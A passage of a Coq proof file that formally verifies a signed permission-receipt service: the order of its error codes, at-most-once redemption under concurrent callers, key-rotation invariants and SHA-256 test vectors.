    destruct (KeyStoreFacts.run_take_le ks0 ops m n Hmn) as [rest ->].
    apply KeyStoreFacts.run_lookup, Hk.
  - intros ks o i k Hk. apply KeyStoreFacts.step_lookup, Hk.
Qed.

(* ===================================================================== *)
(** * Properties of the verifier                                          *)
(* ===================================================================== *)

Module VerifierFacts.
Import Receipt KeyStore Service.

(** A receipt, a key and a request for examples: the end-to-end
    scenario of the specification. *)
Definition k1 : SigningKey :=
  {| KeyStore.keyId := "k1"; publicKey := "pub-k1"; privateKey := "priv-k1";
     status := active; createdAt := 0 |}.

Definition merge16 : PermissionReceipt :=
  {| receiptId := "rec_16"; decision := APPROVED; scope := "github:merge";
     scopeRef := "refs/pull/16/merge"; scopeSha := "abc123";
     issuedAt := 1000; expiresAt := 1000 + 3600000; redeemedAt := None;
     signature := Some "sig"; sigAlg := Some ed25519;
     Receipt.keyId := Some "k1" |}.

Definition request16 (redeem : bool) : VerifyRequest :=
  {| req_receiptId := "rec_16"; req_scope := "github:merge";
     req_scopeRef := "refs/pull/16/merge"; req_scopeSha := "abc123";
     req_redeem := redeem |}.

Lemma scopeMatches_true req r :
  scopeMatches req r = true <->
  req_scope req = scope r /\ req_scopeRef req = scopeRef r /\
  req_scopeSha req = scopeSha r.
Proof.
  unfold scopeMatches. rewrite !andb_true_iff, !String.eqb_eq. tauto.
Qed.

Lemma codeName_listed c : In (codeName c) errorCodes.
Proof. destruct c; simpl; tauto. Qed.

Lemma codeName_inj c c' : codeName c = codeName c' -> c = c'.
Proof. destruct c, c'; simpl; intros H; try reflexivity; discriminate H. Qed.

(** A failing verify leaves the store as it was. *)
Lemma verify_invalid_store ed25519_verify mode ks st now req code :
  snd (verify ed25519_verify mode ks st now req) = Invalid code ->
  fst (verify ed25519_verify mode ks st now req) = st.
Proof.
  unfold verify, redeemStep, tryRedeem.
  destruct (verifyChecks ed25519_verify mode ks st now req) as [c|r]; [reflexivity|].
  destruct (req_redeem req); [|discriminate].
  destruct (st !! req_receiptId req) as [r'|]; [|reflexivity].
  destruct (redeemedAt r'); [reflexivity | discriminate].
Qed.

End VerifierFacts.

(** C6. [verify] runs its checks in a fixed order and stops at the first
    that fails: a missing receipt gives PP_NO_RECEIPT; then a receipt past
    its expiry gives PP_EXPIRED; then a redeemed one PP_REDEEMED; then a
    scope, scopeRef, scopeSha triple that differs in any code unit
    PP_SCOPE_MISMATCH; then, under signing mode required, a null signature
    PP_UNSIGNED_RECEIPT; then a signature whose key is missing or revoked,
    or that does not verify, PP_INVALID_SIGNATURE.  The six codes are
    distinct, every failing result carries one of them, and each of them
    is the result of some request. *)
Theorem verify_error_codes
    (ed25519_verify : string -> N -> string -> bool)
    (mode : Service.SigningMode) (ks : gmap string KeyStore.SigningKey)
    (st : gmap string Receipt.PermissionReceipt) (now : Z)
    (req : Service.VerifyRequest) :
  let result := snd (Service.verify ed25519_verify mode ks st now req) in
  (st !! Service.req_receiptId req = None ->
   result = Service.Invalid Service.PP_NO_RECEIPT) /\
  (forall r, st !! Service.req_receiptId req = Some r ->
     ((now > Receipt.expiresAt r)%Z ->
      result = Service.Invalid Service.PP_EXPIRED) /\
     ((now <= Receipt.expiresAt r)%Z ->
      (Receipt.redeemedAt r <> None ->
       result = Service.Invalid Service.PP_REDEEMED) /\
      (Receipt.redeemedAt r = None ->
       (~ (Service.req_scope req = Receipt.scope r /\
           Service.req_scopeRef req = Receipt.scopeRef r /\
           Service.req_scopeSha req = Receipt.scopeSha r) ->
        result = Service.Invalid Service.PP_SCOPE_MISMATCH) /\
       (Service.req_scope req = Receipt.scope r /\
        Service.req_scopeRef req = Receipt.scopeRef r /\
        Service.req_scopeSha req = Receipt.scopeSha r ->
        (mode = Service.required -> Receipt.signature r = None ->
         result = Service.Invalid Service.PP_UNSIGNED_RECEIPT) /\
        (forall sig, Receipt.signature r = Some sig ->
           (Receipt.keyId r = None \/
            exists kid, Receipt.keyId r = Some kid /\
              (ks !! kid = None \/
               exists k, ks !! kid = Some k /\
                 (KeyStore.status k = KeyStore.revoked \/
                  ed25519_verify (KeyStore.publicKey k) (Receipt.digest r) sig
                  = false))) ->
           result = Service.Invalid Service.PP_INVALID_SIGNATURE))))) /\
  (forall code, result = Service.Invalid code ->
     In (Service.codeName code) Service.errorCodes) /\
  NoDup Service.errorCodes /\ length Service.errorCodes = 6 /\
  (forall c c', Service.codeName c = Service.codeName c' -> c = c') /\
  (forall name, In name Service.errorCodes ->
     exists mode' ks' st' now' req' code,
       snd (Service.verify ed25519_verify mode' ks' st' now' req')
       = Service.Invalid code /\ Service.codeName code = name).
Proof.
  intros result. subst result.
  unfold Service.verify, Service.verifyChecks.
  repeat apply conj.
  - intros ->. reflexivity.
  - intros r ->. split; [|intros Hnow; split; [|intros Hred; split;
      [|intros Hscope; split]]].
    + intros Hexp. apply Z.gt_lt, Z.ltb_lt in Hexp. rewrite Hexp. reflexivity.
    + intros Hred. assert (E : (Receipt.expiresAt r <? now)%Z = false)
        by (apply Z.ltb_ge; lia). rewrite E.
      destruct (Receipt.redeemedAt r); [reflexivity | contradiction].
    + intros Hscope.
      assert (E : (Receipt.expiresAt r <? now)%Z = false) by (apply Z.ltb_ge; lia).
      rewrite E, Hred. simpl.
      destruct (Service.scopeMatches req r) eqn:Hm; [|reflexivity].
      apply VerifierFacts.scopeMatches_true in Hm. contradiction.
    + intros -> Hsig.
      assert (E : (Receipt.expiresAt r <? now)%Z = false) by (apply Z.ltb_ge; lia).
      apply VerifierFacts.scopeMatches_true in Hscope.
      rewrite E, Hred, Hscope, Hsig. reflexivity.
    + intros sig Hsig Hbad.
      assert (E : (Receipt.expiresAt r <? now)%Z = false) by (apply Z.ltb_ge; lia).
      apply VerifierFacts.scopeMatches_true in Hscope.
      rewrite E, Hred, Hscope. simpl.
      rewrite Hsig, andb_false_r. simpl.
      assert (Hv : Service.signatureValid ed25519_verify ks r = false).
      { unfold Service.signatureValid. rewrite Hsig.
        destruct Hbad as [-> | (kid & -> & [-> | (k & -> & [Hrev | Hver])])];
          try reflexivity.
        - rewrite decide_True by exact Hrev. reflexivity.
        - destruct (decide (KeyStore.status k = KeyStore.revoked));
            [reflexivity | exact Hver]. }
      rewrite Hv. reflexivity.
  - intros code _. apply VerifierFacts.codeName_listed.
  - apply (bool_decide_unpack _). vm_compute. exact I.
  - reflexivity.
  - apply VerifierFacts.codeName_inj.
  - intros name Hin.
    pose (r := VerifierFacts.merge16).
    pose (store := {[ "rec_16" := r ]} : gmap string Receipt.PermissionReceipt).
    simpl in Hin.
    destruct Hin as [<- | [<- | [<- | [<- | [<- | [<- | []]]]]]].
    + exists Service.required, ∅, ∅, 0%Z, (VerifierFacts.request16 false),
        Service.PP_NO_RECEIPT. split; reflexivity.
    + exists Service.required, ∅, store, 99999999%Z, (VerifierFacts.request16 false),
        Service.PP_EXPIRED. split; reflexivity.
    + exists Service.required, ∅,
        ({[ "rec_16" := Receipt.withRedeemedAt r 1500 ]}
           : gmap string Receipt.PermissionReceipt),
        2000%Z, (VerifierFacts.request16 false), Service.PP_REDEEMED.
      split; reflexivity.
    + exists Service.required, ∅, store, 2000%Z,
        {| Service.req_receiptId := "rec_16"; Service.req_scope := "github:merge";
           Service.req_scopeRef := "refs/pull/16/head";
           Service.req_scopeSha := "abc123"; Service.req_redeem := false |},
        Service.PP_SCOPE_MISMATCH. split; reflexivity.
    + exists Service.required, ∅,
        ({[ "rec_16" := Receipt.unsigned r ]}
           : gmap string Receipt.PermissionReceipt),
        2000%Z, (VerifierFacts.request16 false), Service.PP_UNSIGNED_RECEIPT.
      split; reflexivity.
    + exists Service.required, ∅, store, 2000%Z, (VerifierFacts.request16 false),
        Service.PP_INVALID_SIGNATURE. split; reflexivity.
Qed.

(* ===================================================================== *)
(** * Properties of redemption under concurrent callers                   *)
(* ===================================================================== *)

Module LedgerFacts.
Import Receipt KeyStore Service.

Lemma tryRedeem_Ok rid now st st' :
  tryRedeem rid now st = (Ok, st') ->
  exists r, st !! rid = Some r /\ redeemedAt r = None /\
    st' = <[rid := withRedeemedAt r now]> st.
Proof.
  unfold tryRedeem. destruct (st !! rid) as [r|]; [|discriminate].
  destruct (redeemedAt r) eqn:E; [discriminate|].
  intros [= <-]. exists r. auto.
Qed.

Lemma tryRedeem_AlreadyRedeemed rid now st st' :
  tryRedeem rid now st = (AlreadyRedeemed, st') -> st' = st.
Proof.
  unfold tryRedeem. destruct (st !! rid) as [r|]; [|congruence].
  destruct (redeemedAt r); [congruence | discriminate].
Qed.

Lemma count_insert (p : thread -> bool) ts : forall i t t',
  ts !! i = Some t ->
  count p (<[i := t']> ts) + (if p t then 1 else 0)
  = count p ts + (if p t' then 1 else 0).
Proof.
  unfold count. induction ts as [|x ts IH]; intros i t t' Hi; [discriminate|].
  destruct i as [|i]; simpl in *.
  - injection Hi as ->. destruct (p t), (p t'); simpl; lia.
  - specialize (IH i t t' Hi). destruct (p x); simpl; lia.
Qed.

Lemma count_zero (p : thread -> bool) ts :
  Forall (fun t => p t = false) ts -> count p ts = 0.
Proof.
  unfold count. induction 1 as [|x ts Hx _ IH]; [reflexivity|].
  simpl. rewrite Hx. exact IH.
Qed.

Lemma redeemedIn_insert_eq st rid r now :
  redeemedIn (<[rid := withRedeemedAt r now]> st) rid = Some now.
Proof. unfold redeemedIn. rewrite lookup_insert_eq. reflexivity. Qed.

Lemma redeemedIn_insert_ne st rid rid' r now :
  rid <> rid' ->
  redeemedIn (<[rid := withRedeemedAt r now]> st) rid' = redeemedIn st rid'.
Proof. intros H. unfold redeemedIn. rewrite lookup_insert_ne by exact H. reflexivity. Qed.

Section Pool.

Variable ed25519_verify : string -> N -> string -> bool.
Variable mode : SigningMode.
Variable ks : gmap string SigningKey.

Let threadStep := Service.threadStep ed25519_verify mode ks.
Let step := Service.step ed25519_verify mode ks.

(** What one step of a thread does: either the store is unchanged and
    the thread has consumed nothing, or the step is the successful
    redeem of a receipt that was unredeemed, and the thread has
    consumed no other receipt. *)
Lemma threadStep_cases st t st' t' :
  threadStep st t = Some (st', t') ->
  finished t = false /\
  ((st' = st /\ forall rid, consumed rid t' = false) \/
   (exists rid r now,
      st !! rid = Some r /\ redeemedAt r = None /\
      st' = <[rid := withRedeemedAt r now]> st /\
      forall rid', rid' <> rid -> consumed rid' t' = false)).
Proof.
  destruct t as [rid now | req now | req now r | rid res | req res];
    simpl; try discriminate.
  - destruct (tryRedeem rid now st) as [[|] st1] eqn:E; intros [= <- <-];
      (split; [reflexivity|]).
    + right. destruct (tryRedeem_Ok _ _ _ _ E) as (r & Hr & Hn & ->).
      exists rid, r, now. repeat split; try assumption.
      intros rid' Hne. simpl. apply bool_decide_eq_false. congruence.
    + left. apply tryRedeem_AlreadyRedeemed in E. subst st1.
      split; [reflexivity | intros; reflexivity].
  - destruct (verifyChecks ed25519_verify mode ks st now req) as [code | r].
    + intros [= <- <-]. split; [reflexivity|]. left.
      split; [reflexivity | intros; reflexivity].
    + destruct (req_redeem req) eqn:Hredeem; intros [= <- <-];
        (split; [reflexivity|]); left; (split; [reflexivity|]); intros rid;
        simpl; [reflexivity | rewrite Hredeem; reflexivity].
  - unfold redeemStep.
    destruct (tryRedeem (req_receiptId req) now st) as [[|] st1] eqn:E;
      intros [= <- <-]; (split; [reflexivity|]).
    + destruct (tryRedeem_Ok _ _ _ _ E) as (r0 & Hr & Hn & ->).
      right. exists (req_receiptId req), r0, now. repeat split; try assumption.
      intros rid' Hne. simpl.
      replace (bool_decide (req_receiptId req = rid')) with false
        by (symmetry; apply bool_decide_eq_false; congruence).
      apply andb_false_r.
    + left. apply tryRedeem_AlreadyRedeemed in E. subst st1.
      split; [reflexivity | intros; reflexivity].
Qed.

Lemma finished_not_consumed rid t : finished t = false -> consumed rid t = false.
Proof. destruct t; simpl; try reflexivity; discriminate. Qed.

(** At most one consumer of [rid], and a consumer only once [rid] is
    marked redeemed. *)
Definition atMostOnce (rid : string) (c : config) : Prop :=
  count (consumed rid) (threads c) <= 1 /\
  (count (consumed rid) (threads c) = 1 ->
   redeemedIn (store c) rid <> None).

Lemma step_atMostOnce rid c c' :
  step c c' -> atMostOnce rid c -> atMostOnce rid c'.
Proof.
  intros Hstep [Hle Hred].
  destruct Hstep as [c i t st' t' Hi Hts]. simpl.
  destruct (threadStep_cases _ _ _ _ Hts) as [Hunf Hcases].
  pose proof (count_insert (consumed rid) (threads c) i t t' Hi) as Hcount.
  rewrite (finished_not_consumed rid t Hunf) in Hcount.
  destruct Hcases as [[-> Hnone] | (rid0 & r & now & Hr & Hnull & -> & Hothers)].
  - rewrite Hnone in Hcount. unfold atMostOnce. simpl.
    split; [lia|]. intros H1. apply Hred. lia.
  - unfold atMostOnce. simpl.
    destruct (decide (rid0 = rid)) as [-> | Hne].
    + assert (Hzero : count (consumed rid) (threads c) = 0).
      { destruct (decide (count (consumed rid) (threads c) = 1)) as [H1|H1];
          [|lia].
        exfalso. apply (Hred H1). unfold redeemedIn. rewrite Hr. exact Hnull. }
      split.
      * destruct (consumed rid t'); lia.
      * intros _. rewrite redeemedIn_insert_eq. discriminate.
    + rewrite (Hothers rid (not_eq_sym Hne)) in Hcount.
      rewrite redeemedIn_insert_ne by exact Hne.
      split; [lia|]. intros H1. apply Hred. lia.
Qed.

Lemma reachable_atMostOnce rid c c' :
  rtc step c c' -> atMostOnce rid c -> atMostOnce rid c'.
Proof.
  induction 1 as [c | c c1 c' Hstep _ IH]; [auto|].
  intros Hc. apply IH. eapply step_atMostOnce; eassumption.
Qed.

Lemma calls_atMostOnce rid st calls :
  Forall (fun t => isCall t = true) calls ->
  atMostOnce rid {| store := st; threads := calls |}.
Proof.
  intros Hcalls.
  assert (Hz : count (consumed rid) calls = 0).
  { apply count_zero. eapply Forall_impl; [exact Hcalls|].
    intros t Ht. destruct t; simpl in *; try reflexivity; discriminate. }
  unfold atMostOnce. simpl. rewrite Hz. split; [lia | discriminate].
Qed.

(** [redeemedAt] is written once: a value it holds stays. *)
Lemma step_redeemedIn rid c c' t0 :
  step c c' -> redeemedIn (store c) rid = Some t0 ->
  redeemedIn (store c') rid = Some t0.
Proof.
  intros Hstep Hred. destruct Hstep as [c i t st' t' Hi Hts]. simpl.
  destruct (threadStep_cases _ _ _ _ Hts)
    as [_ [[-> _] | (rid0 & r & now & Hr & Hnull & -> & _)]]; [exact Hred|].
  destruct (decide (rid0 = rid)) as [-> | Hne].
  - unfold redeemedIn in Hred. rewrite Hr in Hred. congruence.
  - rewrite redeemedIn_insert_ne by exact Hne. exact Hred.
Qed.

Lemma reachable_redeemedIn rid c c' t0 :
  rtc step c c' -> redeemedIn (store c) rid = Some t0 ->
  redeemedIn (store c') rid = Some t0.
Proof.
  induction 1 as [c | c c1 c' Hstep _ IH]; [auto|].
  intros Hc. apply IH. eapply step_redeemedIn; eassumption.
Qed.

(** ** Every pool of callers runs to the end *)

(** The steps a thread still has to take. *)
Definition stepsLeft (t : thread) : nat :=
  match t with
  | redeemCall _ _ => 1
  | verifyCall _ _ => 2
  | verifyRedeeming _ _ _ => 1
  | redeemDone _ _ | verifyDone _ _ => 0
  end.

Definition work (ts : list thread) : nat := sum_list (map stepsLeft ts).

Lemma threadStep_total st t :
  finished t = false ->
  exists st' t', threadStep st t = Some (st', t') /\ stepsLeft t' < stepsLeft t.
Proof.
  destruct t as [rid now | req now | req now r | rid res | req res];
    simpl; try discriminate; intros _.
  - destruct (tryRedeem rid now st) as [res st1]. eexists _, _.
    split; [reflexivity | simpl; lia].
  - destruct (verifyChecks ed25519_verify mode ks st now req) as [code | r].
    + eexists _, _. split; [reflexivity | simpl; lia].
    + destruct (req_redeem req); eexists _, _; (split; [reflexivity | simpl; lia]).
  - destruct (redeemStep st now req r) as [st1 res]. eexists _, _.
    split; [reflexivity | simpl; lia].
Qed.

Lemma work_insert ts : forall i t t',
  ts !! i = Some t -> work (<[i := t']> ts) + stepsLeft t = work ts + stepsLeft t'.
Proof.
  unfold work. induction ts as [|x ts IH]; intros i t t' Hi; [discriminate|].
  destruct i as [|i]; simpl in *.
  - injection Hi as ->. lia.
  - specialize (IH i t t' Hi). lia.
Qed.

Lemma unfinished_or_terminal c :
  terminal c \/ exists i t, threads c !! i = Some t /\ finished t = false.
Proof.
  unfold terminal. induction (threads c) as [|x ts IH].
  - left. intros t Ht. apply elem_of_nil in Ht. contradiction.
  - destruct (finished x) eqn:Hx.
    + destruct IH as [Hall | (i & t & Hi & Ht)].
      * left. intros t Ht. apply elem_of_cons in Ht as [-> | Ht]; auto.
      * right. exists (S i), t. auto.
    + right. exists 0, x. auto.
Qed.

Lemma runs_to_end n : forall c,
  work (threads c) <= n -> exists c', rtc step c c' /\ terminal c'.
Proof.
  induction n as [|n IH]; intros c Hwork.
  - exists c. split; [apply rtc_refl|].
    destruct (unfinished_or_terminal c) as [Ht | (i & t & Hi & Hunf)]; [exact Ht|].
    destruct (threadStep_total (store c) t Hunf) as (st' & t' & _ & Hlt).
    pose proof (work_insert (threads c) i t t' Hi). lia.
  - destruct (unfinished_or_terminal c) as [Ht | (i & t & Hi & Hunf)].
    + exists c. split; [apply rtc_refl | exact Ht].
    + destruct (threadStep_total (store c) t Hunf) as (st' & t' & Hts & Hlt).
      pose proof (work_insert (threads c) i t t' Hi) as Hw.
      destruct (IH {| store := st'; threads := <[i := t']> (threads c) |})
        as (c' & Hrun & Hterm); [simpl; lia|].
      exists c'. split; [|exact Hterm].
      eapply rtc_l; [|exact Hrun]. econstructor; eassumption.
Qed.

(** Every step takes one of the steps a thread has left, so no schedule
    is longer than the work of the pool; and a pool that is not at its
    end can move. *)
Lemma step_work c c' : step c c' -> work (threads c') < work (threads c).
Proof.
  intros Hstep. destruct Hstep as [c i t st' t' Hi Hts]. simpl.
  pose proof (work_insert (threads c) i t t' Hi) as Hw.
  assert (Hunf : finished t = false).
  { destruct t; simpl in *; try reflexivity; discriminate. }
  destruct (threadStep_total (store c) t Hunf) as (st1 & t1 & Hts1 & Hlt).
  assert (Heq : Some (st', t') = Some (st1, t1)) by (rewrite <- Hts; exact Hts1).
  injection Heq as -> ->. lia.
Qed.

Lemma nsteps_work n c c' :
  nsteps step n c c' -> n + work (threads c') <= work (threads c).
Proof.
  induction 1 as [c | n c c1 c' Hstep _ IH]; [lia|].
  apply step_work in Hstep. lia.
Qed.

Lemma progress c : terminal c \/ exists c', step c c'.
Proof.
  destruct (unfinished_or_terminal c) as [Ht | (i & t & Hi & Hunf)]; [left; exact Ht|].
  destruct (threadStep_total (store c) t Hunf) as (st' & t' & Hts & _).
  right. eexists. econstructor; eassumption.
Qed.

(** ** A pool of [tryRedeem] calls on one unredeemed receipt *)

Section RedeemPool.

Variable rid : string.
Variable nows : list Z.

Definition poolThread (t : thread) : Prop :=
  (exists now, t = redeemCall rid now /\ now ∈ nows) \/
  (exists res, t = redeemDone rid res).

Definition poolInv (c : config) : Prop :=
  Forall poolThread (threads c) /\
  length (threads c) = length nows /\
  (exists r, store c !! rid = Some r) /\
  match redeemedIn (store c) rid with
  | None => Forall (fun t => finished t = false) (threads c)
  | Some t0 => count (consumed rid) (threads c) = 1 /\ t0 ∈ nows
  end.

Lemma step_poolInv c c' : step c c' -> poolInv c -> poolInv c'.
Proof.
  intros Hstep (Hpool & Hlen & [r Hr] & Hstate).
  destruct Hstep as [c i t st' t' Hi Hts]. unfold poolInv. simpl.
  assert (Ht : poolThread t).
  { eapply Forall_lookup_1 in Hpool; eassumption. }
  destruct Ht as [(now & -> & Hnow) | (res & ->)]; [|discriminate].
  simpl in Hts. unfold tryRedeem in Hts. rewrite Hr in Hts.
  pose proof (count_insert (consumed rid) (threads c) i) as Hcount.
  unfold redeemedIn in Hstate. rewrite Hr in Hstate.
  destruct (redeemedAt r) as [t0|] eqn:Hred; injection Hts as <- <-.
  - specialize (Hcount _ (redeemDone rid AlreadyRedeemed) Hi). simpl in Hcount.
    repeat split.
    + apply Forall_insert; [exact Hpool | right; eexists; reflexivity].
    + rewrite length_insert. exact Hlen.
    + eauto.
    + unfold redeemedIn. rewrite Hr, Hred. destruct Hstate as [H1 Hin].
      split; [lia | exact Hin].
  - specialize (Hcount _ (redeemDone rid Ok) Hi). simpl in Hcount.
    rewrite bool_decide_eq_true_2 in Hcount by reflexivity.
    repeat split.
    + apply Forall_insert; [exact Hpool | right; eexists; reflexivity].
    + rewrite length_insert. exact Hlen.
    + rewrite lookup_insert_eq. eauto.
    + rewrite redeemedIn_insert_eq. split; [|exact Hnow].
      assert (count (consumed rid) (threads c) = 0); [|lia].
      apply count_zero. eapply Forall_impl; [exact Hstate|].
      intros t Ht. apply finished_not_consumed, Ht.
Qed.

Lemma reachable_poolInv c c' : rtc step c c' -> poolInv c -> poolInv c'.
Proof.
  induction 1 as [c | c c1 c' Hstep _ IH]; [auto|].
  intros Hc. apply IH. eapply step_poolInv; eassumption.
Qed.

Lemma pool_work : work (map (redeemCall rid) nows) = length nows.
Proof.
  unfold work. induction nows as [|now l IH]; simpl; [reflexivity|].
  rewrite IH. reflexivity.
Qed.

Lemma pool_counts ts :
  Forall poolThread ts -> Forall (fun t => finished t = true) ts ->
  count (consumed rid) ts + count (lost rid) ts = length ts.
Proof.
  unfold count. induction 1 as [|t ts Ht _ IH]; intros Hfin; [reflexivity|].
  apply Forall_cons in Hfin as [Hft Hfin]. specialize (IH Hfin).
  destruct Ht as [(now & -> & _) | (res & ->)]; [discriminate|].
  simpl. rewrite bool_decide_eq_true_2 by reflexivity.
  destruct res; simpl; lia.
Qed.

End RedeemPool.

End Pool.

End LedgerFacts.

(** C5. [N >= 1] concurrent [tryRedeem] calls on one unredeemed receipt,
    scheduled in any order, run to the end (a schedule has at most [N]
    steps, and a pool that is not at its end can move), and at the end
    exactly one has returned Ok and [N - 1] AlreadyRedeemed, with
    [redeemedAt] the time of one of the calls.  Whatever callers run concurrently
    ([tryRedeem] and verify calls with their checks and their redeem as
    separate steps), at most one of them consumes a given receipt, so two
    verify-and-redeem calls never both succeed; and once [redeemedAt]
    holds a time it holds that time in every later state. *)
Theorem redemption_at_most_once
    (ed25519_verify : string -> N -> string -> bool)
    (mode : Service.SigningMode) (ks : gmap string KeyStore.SigningKey)
    (st : gmap string Receipt.PermissionReceipt) (rid : string)
    (r : Receipt.PermissionReceipt) (nows : list Z) :
  st !! rid = Some r -> Receipt.redeemedAt r = None -> length nows >= 1 ->
  let step := Service.step ed25519_verify mode ks in
  let init := {| Service.store := st;
                 Service.threads := map (Service.redeemCall rid) nows |} in
  (exists c', rtc step init c' /\ Service.terminal c') /\
  (forall n c', nsteps step n init c' ->
     n <= length nows /\ (Service.terminal c' \/ exists c'', step c' c'')) /\
  (forall c', rtc step init c' -> Service.terminal c' ->
     Service.count (Service.consumed rid) (Service.threads c') = 1 /\
     Service.count (Service.lost rid) (Service.threads c') = length nows - 1 /\
     exists t, t ∈ nows /\ Service.redeemedIn (Service.store c') rid = Some t) /\
  (forall st0 rid0 calls c',
     Forall (fun t => Service.isCall t = true) calls ->
     rtc step {| Service.store := st0; Service.threads := calls |} c' ->
     Service.count (Service.consumed rid0) (Service.threads c') <= 1) /\
  (forall rid0 c c' t,
     rtc step c c' -> Service.redeemedIn (Service.store c) rid0 = Some t ->
     Service.redeemedIn (Service.store c') rid0 = Some t).
Proof.
  intros Hr Hnull Hn step init.
  assert (Hinit : LedgerFacts.poolInv rid nows init).
  { unfold LedgerFacts.poolInv, init. simpl. repeat split.
    - apply Forall_forall. intros t Ht. apply list_elem_of_In, in_map_iff in Ht.
      destruct Ht as (now & <- & Hin). left. exists now.
      split; [reflexivity | apply list_elem_of_In, Hin].
    - apply length_map.
    - eauto.
    - unfold Service.redeemedIn. rewrite Hr, Hnull.
      apply Forall_forall. intros t Ht. apply list_elem_of_In, in_map_iff in Ht.
      destruct Ht as (now & <- & _). reflexivity. }
  split; [|split; [|split; [|split]]].
  - eapply LedgerFacts.runs_to_end. apply Nat.le_refl.
  - intros n c' Hn'. split; [|apply LedgerFacts.progress].
    apply LedgerFacts.nsteps_work in Hn'. unfold init in Hn'. simpl in Hn'.
    rewrite LedgerFacts.pool_work in Hn'. lia.
  - intros c' Hrun Hterm.
    destruct (LedgerFacts.reachable_poolInv _ _ _ rid nows _ _ Hrun Hinit)
      as (Hpool & Hlen & _ & Hstate).
    assert (Hfin : Forall (fun t => Service.finished t = true) (Service.threads c')).
    { apply Forall_forall. exact Hterm. }
    pose proof (LedgerFacts.pool_counts rid nows _ Hpool Hfin) as Hsum.
    destruct (Service.redeemedIn (Service.store c') rid) as [t0|].
    + destruct Hstate as [H1 Hin]. split; [exact H1|]. split; [lia|]. eauto.
    + exfalso. destruct (Service.threads c') as [|t ts]; [simpl in Hlen; lia|].
      apply Forall_cons in Hstate as [Hu _]. apply Forall_cons in Hfin as [Hf _].
      congruence.
  - intros st0 rid0 calls c' Hcalls Hrun.
    apply (LedgerFacts.reachable_atMostOnce _ _ _ rid0 _ _ Hrun).
    apply LedgerFacts.calls_atMostOnce, Hcalls.
  - intros rid0 c c' t Hrun. eapply LedgerFacts.reachable_redeemedIn, Hrun.
Qed.

(* ===================================================================== *)
(** * Properties of canonicalization and of the input hash                *)
(* ===================================================================== *)

Module CanonicalizerFacts.
Import Canonicalizer Receipt.







(** ** Decimal numbers *)





Lemma numberToString_inj z1 z2 :
  Js.numberToString z1 = Js.numberToString z2 -> z1 = z2.
Proof.
  unfold Js.numberToString. intros H.
  assert (Hn : forall z, Z.to_int z <> Decimal.Pos Decimal.Nil /\
                         Z.to_int z <> Decimal.Neg Decimal.Nil).
  { intros [|p|p]; simpl; split; try discriminate;
      intros [= E]; exact (DecimalPos.Unsigned.to_uint_nonnil p E). }
  apply (f_equal NilZero.int_of_string) in H.
  rewrite !NilZero.isi in H by apply Hn.
  injection H as H. apply DecimalZ.to_int_inj, H.
Qed.





End CanonicalizerFacts.

Module HashFacts.
Import Canonicalizer Sdk.



(** The standard test vectors of SHA-256. *)
Example sha256_abc :
  Sha256.sha256hex "abc"
  = "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad".
Proof. vm_compute. reflexivity. Qed.

Example sha256_empty :
  Sha256.sha256hex EmptyString
  = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855".
Proof. vm_compute. reflexivity. Qed.

Example sha256_two_blocks :
  Sha256.sha256hex "abcdbcdecdefdefgefghfghighijhijkijkljklmklmnlmnomnopnopq"
  = "248d6a61d20638b8e5c026930c3e6039a33ce45964ff2167f6ecedd419db06c1".
Proof. vm_compute. reflexivity. Qed.

Lemma digest_bound s : (Sha256.digest s < 2 ^ 256)%N.
Proof. unfold Sha256.digest. apply N.mod_lt. discriminate. Qed.

(** A string as a number in base 256, first code unit lowest. *)
Fixpoint code (s : string) : N :=
  match s with
  | EmptyString => 0
  | String c r => N_of_ascii c + 256 * code r
  end.








Lemma hexChar_isHexDigit d : (d < 16)%N -> isHexDigit (Sha256.hexChar d) = true.
Proof.
  intros Hd. rewrite <- (N2Nat.id d).
  assert (Hk : N.to_nat d < 16) by lia.
  revert Hk. generalize (N.to_nat d). clear. intros k Hk.
  do 16 (destruct k as [|k]; [reflexivity|]). lia.
Qed.

Lemma hex_form n x :
  String.length (Sha256.hex n x) = n /\
  allChars isHexDigit (Sha256.hex n x) = true.
Proof.
  induction n as [|n [IHl IHc]]; [split; reflexivity|].
  cbn [Sha256.hex String.length allChars]. rewrite IHl, IHc.
  rewrite hexChar_isHexDigit by (apply N.mod_lt; discriminate).
  split; reflexivity.
Qed.

Lemma substring_whole s : String.substring 0 (String.length s) s = s.
Proof. induction s as [|c r IH]; [reflexivity|]. simpl. now rewrite IH. Qed.

(** The modelled [computeHash] has the documented form. *)
Lemma computeHash_isInputHash p : isInputHash (computeHash p) = true.
Proof.
  unfold computeHash, Sha256.sha256hex, isInputHash.
  destruct (hex_form 64 (Sha256.digest (canonicalizeJson (payloadJson p))))
    as [Hl Hc].
  remember (Sha256.hex 64 _) as x eqn:Hx. clear Hx.
  assert (Hp : String.prefix "sha256:" ("sha256:" ++ x) = true).
  { cbn. repeat (destruct (ascii_dec _ _) as [_|Hne]; [|contradiction]).
    destruct x; reflexivity. }
  assert (Hn : String.length ("sha256:" ++ x) = 71).
  { change (String.length ("sha256:" ++ x))
      with (7 + String.length x). rewrite Hl. reflexivity. }
  assert (Hs : String.substring 7 64 ("sha256:" ++ x) = x).
  { change (String.substring 7 64 ("sha256:" ++ x))
      with (String.substring 0 64 x).
    rewrite <- Hl. apply substring_whole. }
  rewrite Hp, Hn, Hs, Hc. reflexivity.
Qed.

End HashFacts.



(* ===================================================================== *)
(** * The decision states                                                 *)
(* ===================================================================== *)

Module DecisionFacts.
Import Output.




End DecisionFacts.



(* ===================================================================== *)
(** * Instances                                                           *)
(* ===================================================================== *)

Module Instances.
Import Receipt KeyStore Service.

Definition k2 : SigningKey :=
  {| KeyStore.keyId := "k2"; publicKey := "pub-k2"; privateKey := "priv-k2";
     status := active; createdAt := 10 |}.

Definition rotations : list op :=
  [ opRotate VerifierFacts.k1; opRotate k2; opRevoke "k1" ].

Definition store16 : gmap string PermissionReceipt :=
  {[ "rec_16" := VerifierFacts.merge16 ]}.

Definition acceptAll : string -> N -> string -> bool := fun _ _ _ => true.

End Instances.

Lemma keystore_lifecycle_witness :
  KeyStore.atMostOneActive (KeyStore.run ∅ (take 3 Instances.rotations)).
Proof.
  apply (keystore_lifecycle ∅ Instances.rotations).
  intros i j ki kj Hi. rewrite lookup_empty in Hi. discriminate Hi.
Defined.

Lemma redemption_at_most_once_witness :
  exists c',
    rtc (Service.step Instances.acceptAll Service.required ∅)
        {| Service.store := Instances.store16;
           Service.threads := map (Service.redeemCall "rec_16") [2000; 2001; 2002]%Z |}
